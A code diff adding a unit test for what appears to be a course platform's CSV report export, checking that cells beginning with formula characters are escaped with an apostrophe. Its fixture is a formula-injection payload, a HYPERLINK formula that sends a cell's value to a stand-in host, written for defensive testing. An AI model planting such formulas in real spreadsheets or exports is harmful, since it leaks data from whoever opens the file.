@@ -93,3 +93,25 @@ def test_report_html_of_a_real_cohort_names_everyone(learner, cohort):
     assert "测试学员" in out and "毕业生" in out
     assert "<h3>Mastery per section (the cohort)</h3>" in out
     assert "<h3>Most missed questions</h3>" in out and out.count("<th>") == 6
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped():
+    """A learner named "=HYPERLINK(…)" ran as a formula in Excel; numbers stay numbers."""
+    from app.reports.cohort import LearnerRow
+    from app.reports.cohort_report import csv_rows
+    from app.reports.csv_export import to_csv
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    row = LearnerRow("-acct", evil, 3, 0.5, 4, None, 0.25, False)
+    text = to_csv(csv_rows([row]), CSV_COLUMNS)
+    got = next(csv.DictReader(io.StringIO(text[1:])))
+    assert got["learner"] == "'" + evil and got["learner_id"] == "'-acct"
+    assert got["lessons_completed"] == "3" and got["completion"] == "0.5"
+    cells = [
+        {"title": "+1 for the apology", "score": -0.5, "seconds": 0, "mode": "@cmd",
+         "section": "\tx", "item_id": "\rx", "learner": "王-小明", "kind": "-"}
+    ]  # fmt: skip
+    got = next(csv.DictReader(io.StringIO(to_csv(cells)[1:])))
+    assert got["title"] == "'+1 for the apology" and got["mode"] == "'@cmd"
+    assert got["section"] == "'\tx" and got["item_id"] == "'\rx" and got["kind"] == "'-"
+    assert got["score"] == "-0.5" and got["seconds"] == "0" and got["learner"] == "王-小明"
